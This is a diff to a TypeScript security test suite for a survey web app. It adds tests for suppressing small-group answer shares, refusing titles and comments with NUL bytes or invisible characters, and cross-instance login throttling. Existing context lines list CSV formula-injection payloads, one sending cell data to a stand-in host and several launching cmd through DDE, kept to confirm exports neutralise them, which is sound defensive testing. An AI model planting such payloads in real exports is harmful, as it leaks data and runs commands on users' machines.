@@ -4,6 +4,7 @@ import { buildApp } from '../../../server/app.ts'
 import type { Database } from '../../../server/db/schema.ts'
 import { createAuthService } from '../../../server/modules/auth/auth.service.ts'
 import { createOrganisationService } from '../../../server/modules/organisations/organisations.service.ts'
+import { ApiErrorSchema } from '../../../shared/errors.ts'
 import { generateResponses } from '../../../shared/domain/synthetic.ts'
 import { dlV1 } from '../../../shared/instrument/dl-v1.ts'
 import type { RoleId } from '../../../shared/instrument/types.ts'
@@ -93,6 +94,34 @@ describe.each(testDatabases())('attacks on %s', (kind) => {
     })
   })
 
+  describe('9.7 agree, neutral and disagree shares', () => {
+    it('a leader reading the shares is told which withheld statement they leave out, and cannot recover its answers from them', async () => {
+      const scale = dlV1.scales[0]!
+      const [withheld, ...shown] = scale.items
+      // 6 respondents; only 4 (< k = 5) give an answer to the first statement, the rest say "Don't know"
+      const bodies = generateResponses({ instrument: dlV1, pattern: 4, respondents: 6, seed: 77, dontKnowRate: 0, skipRate: 0 })
+        .map((body, i) => (i < 2 ? { ...body, answers: { ...body.answers, [withheld!.id]: null } } : body))
+      const { id, token } = await newSurvey()
+      await submit(token, bodies)
+      await close(id)
+      const got = (await report(id)).scales.find((s) => s.id === scale.id)!
+      expect(got.items[0]!.counts).toBeNull()
+      expect(got.sharesLeaveOut).toEqual([withheld!.id])
+      // the shares are exactly those of the statements shown: nothing of the withheld one is in them
+      const totals = [0, 0, 0, 0, 0]
+      for (const item of got.items.slice(1)) item.counts!.forEach((c, i) => (totals[i]! += c))
+      const answered = totals.reduce((a, b) => a + b, 0)
+      expect(shown.length).toBe(got.items.length - 1)
+      expect(got.favourable).toBeCloseTo((totals[3]! + totals[4]!) / answered, 10)
+      expect(got.neutral).toBeCloseTo(totals[2]! / answered, 10)
+      expect(got.unfavourable).toBeCloseTo((totals[0]! + totals[1]!) / answered, 10)
+      const full = await report(id)
+      expect(full.suppression).toContain(`${scale.name}: the agree, neutral and disagree shares leave out 1 statement that fewer than 5 people answered.`)
+      const csv = (await leader('GET', `/api/surveys/${id}/report.csv`)).body
+      expect(csv).toContain('leave out 1 statement that fewer than 5 people answered')
+    })
+  })
+
   describe('9.8 CSV formula injection', () => {
     const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']
 
@@ -117,6 +146,55 @@ describe.each(testDatabases())('attacks on %s', (kind) => {
       expect(parseCsv(overviewCsv).flat()).toContain(`'${formula.trim()} school`)
       expect(formulaCells(reportCsv)).toEqual([])
       expect(formulaCells(overviewCsv)).toEqual([])
+    })
+  })
+
+  describe('9.10 text that cannot be stored or seen', () => {
+    const BAD_TEXT: [string, string, RegExp][] = [
+      ['a NUL byte', 'Autumn\u0000 survey', /NUL character/],
+      ['a lone surrogate', 'Autumn \uD83D survey', /broken character/],
+      ['only invisible characters', '\u200B\u3164\u200D\u2800\u00A0\u2060', /at least 3 visible characters/],
+    ]
+    const expect400 = (res: { statusCode: number; json: () => unknown }, message: RegExp) => {
+      expect(res.statusCode).toBe(400)
+      const body = ApiErrorSchema.parse(res.json())
+      expect(body.error.code).toBe('VALIDATION_FAILED')
+      expect(`${body.error.message} ${JSON.stringify(body.error.issues ?? [])}`).toMatch(message)
+    }
+
+    it.each(BAD_TEXT)('a survey title with %s is refused with a 400 that says why, and nothing is written', async (_, title, message) => {
+      const before = await countRows(db, 'surveys')
+      const created = await leader('POST', `/api/schools/${world.schoolA1}/surveys`, {
+        title, opensAt: new Date(now.getTime() - DAY).toISOString(), closesAt: new Date(now.getTime() + 10 * DAY).toISOString(),
+      })
+      expect400(created, message)
+      expect(await countRows(db, 'surveys')).toBe(before)
+      const renamed = await leader('PATCH', `/api/surveys/${world.surveyA1}`, { title })
+      expect400(renamed, message)
+      const stored = await db.selectFrom('surveys').select('title').where('id', '=', world.surveyA1).executeTakeFirstOrThrow()
+      expect(stored.title).toBe('Alder One autumn survey')
+    })
+
+    it.each(BAD_TEXT.slice(0, 2))('a comment with %s is refused with a 400 that says why, and nothing is written', async (_, text, message) => {
+      const body = { ...responses([['teacher', 1]])[0]!, comments: { helps: `Time to plan ${text}`, hinders: 'Meetings' } }
+      const res = await app.inject({ method: 'POST', url: `/api/forms/${world.tokenB1}/responses`, payload: body })
+      expect400(res, message)
+      expect(await countRows(db, 'responses')).toBe(0)
+      expect(await countRows(db, 'comments')).toBe(0)
+      // the same comment without the bad character is stored, line breaks, tabs and emoji kept
+      const fine = { ...body, comments: { helps: 'Time to plan\r\nand\ttalk 👍', hinders: '' } }
+      expect((await app.inject({ method: 'POST', url: `/api/forms/${world.tokenB1}/responses`, payload: fine })).statusCode).toBe(201)
+    })
+
+    it.each(BAD_TEXT)('a school, trust or leader name with %s is refused with a message that says why', async (_, name, message) => {
+      const organisations = createOrganisationService({ db })
+      const bad = name.replace('Autumn', 'Oak').replace(' survey', ' School')
+      message = new RegExp(message.source.replace('3 visible', '2 visible'))
+      await expect(organisations.createSchool({ name: bad, trustId: world.trustA })).rejects.toThrow(message)
+      await expect(organisations.createTrust({ name: bad })).rejects.toThrow(message)
+      await expect(organisations.createLeader({ email: 'new@example.org', displayName: bad })).rejects.toThrow(message)
+      expect(await db.selectFrom('schools').select('id').execute()).toHaveLength(3)
+      expect(await db.selectFrom('leaders').select('id').where('email', '=', 'new@example.org').execute()).toHaveLength(0)
     })
   })
 
@@ -156,6 +234,56 @@ describe.each(testDatabases())('attacks on %s', (kind) => {
       expect(changed.statusCode).toBe(200)
       expect((await setPassword(link, 'the attacker chose this')).statusCode).toBe(404)
       expect((await signIn('a fresh password of mine')).statusCode).toBe(200)
+    })
+  })
+
+  describe('9.12 throttles and rate limits across instances', () => {
+    const GUESSER = '203.0.113.7'
+    const LEADER_HOME = '198.51.100.20'
+    let second: App
+    let third: App
+    beforeEach(async () => {
+      // two more instances of the app on the same database, as behind a load balancer
+      second = await buildApp({ db, now: () => now, loginRateLimit: 1000 })
+      third = await buildApp({ db, now: () => now, loginRateLimit: 4 })
+    })
+    afterEach(async () => {
+      await second.close()
+      await third.close()
+    })
+    const login = (on: App, remoteAddress: string, password: string) =>
+      on.inject({ method: 'POST', url: '/api/auth/login', remoteAddress, payload: { email: world.emails.schoolLeader, password } })
+
+    it('a guesser spreading wrong passwords over two instances is throttled after five in all, while the real leader signs in from elsewhere', async () => {
+      const statuses: number[] = []
+      for (let i = 0; i < 6; i++) statuses.push((await login(i % 2 === 0 ? app : second, GUESSER, `guess number ${i}`)).statusCode)
+      expect(statuses).toEqual([401, 401, 401, 401, 401, 429])
+      // the guesser is slowed on both instances, even with the right password
+      expect((await login(app, GUESSER, PASSWORD)).statusCode).toBe(429)
+      expect((await login(second, GUESSER, PASSWORD)).statusCode).toBe(429)
+      // the real leader, from another address, is not locked out, on either instance
+      expect((await login(app, LEADER_HOME, PASSWORD)).statusCode).toBe(200)
+      expect((await login(second, LEADER_HOME, PASSWORD)).statusCode).toBe(200)
+      // after the window the guesser may try again (and is slowed again after five more)
+      now = new Date(now.getTime() + 16 * 60_000)
+      expect((await login(second, GUESSER, 'guess after the wait')).statusCode).toBe(401)
+    })
+
+    it('a client sending sign-in attempts to two instances meets the per-address limit once, not once per instance', async () => {
+      const fourth = await buildApp({ db, now: () => now, loginRateLimit: 4 })
+      try {
+        const statuses: number[] = []
+        for (let i = 0; i < 6; i++) {
+          const res = await (i % 2 === 0 ? third : fourth).inject({ method: 'POST', url: '/api/auth/login', remoteAddress: GUESSER, payload: { email: `x${i}@example.org`, password: 'x' } })
+          statuses.push(res.statusCode)
+        }
+        expect(statuses).toEqual([401, 401, 401, 401, 429, 429])
+        // another address is not affected
+        const other = await fourth.inject({ method: 'POST', url: '/api/auth/login', remoteAddress: LEADER_HOME, payload: { email: world.emails.schoolLeader, password: PASSWORD } })
+        expect(other.statusCode).toBe(200)
+      } finally {
+        await fourth.close()
+      }
     })
   })
 })
